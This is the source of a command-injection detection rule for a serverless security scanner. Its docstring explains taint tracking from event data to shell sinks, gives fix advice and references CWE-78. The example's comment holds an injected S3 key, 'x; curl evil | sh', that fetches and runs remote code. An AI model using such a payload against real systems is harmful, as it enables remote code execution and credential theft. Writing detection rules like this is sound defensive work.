"""Attacker-controlled event data reaches an OS command.

What it finds:
Handler code that passes data from the function's event to a shell or a program:
`os.system`, `os.popen`, `subprocess` with `shell=True` or with a tainted program name
(`argv[0]`), `child_process.exec`/`execSync`/`spawn` with `shell` on Node.js.

It is a taint rule: faasguard follows data from the parts of the `event` that the function's
triggers fill (an HTTP body, an S3 object key, an SQS message, ...) through the handler code
and the modules it imports, and reports the whole path, source to sink. When only triggers
a WAF cannot see deliver the input, the severity is raised one level and the message says
so (practice P2). A function without a known trigger has its whole event treated as
attacker-controlled. The code is parsed, never imported or run.

Tested by annotated handler fixtures (`# expect:`/`# ok:` on the sink lines of the code in
`tests/fixtures/sam/code-*/`), not by template fixtures: the rule is about code, so its
`formats` lists only `sam`.

Why it matters:
Whoever controls the input runs commands in the function's execution environment with the
function's role: they read the environment (credentials of the execution role), call AWS
APIs, and tamper with `/tmp` for later invocations. An S3 object key or a queue message is
input no WAF ever inspects.

Example:

```python
def handler(event, context):
    key = unquote_plus(event["Records"][0]["s3"]["object"]["key"])
    os.system(f"convert /tmp/{key} /tmp/out.png")   # key = "x; curl evil | sh"
```

How to fix:
Do not use a shell: pass an argument list (`subprocess.run(["convert", path, out])`),
validate the value against an allow-list, or quote it with `shlex.quote` when a shell is
unavoidable.

References:
- https://owasp.org/www-community/attacks/Command_Injection
- CWE-78: OS Command Injection
- OWASP Serverless Top 10: SAS-1 Function Event Data Injection
"""

from __future__ import annotations

from collections.abc import Iterator

from faasguard.findings import Hit, Practice, Severity
from faasguard.model import App
from faasguard.rules.base import Source, rule
from faasguard.rules.code._taint import taint_hits


@rule(
    id="CODE001",
    name="command-injection",
    severity=Severity.CRITICAL,
    practice=Practice.P7,
    cwe=("CWE-78",),
    owasp=("SAS-1",),
    formats=("sam",),
    source=Source.CODE,
)
def check(app: App) -> Iterator[Hit]:
    """One hit per command injection flow, with its source-to-sink path."""
    yield from taint_hits(app, "command-injection", "command injection", Severity.CRITICAL)
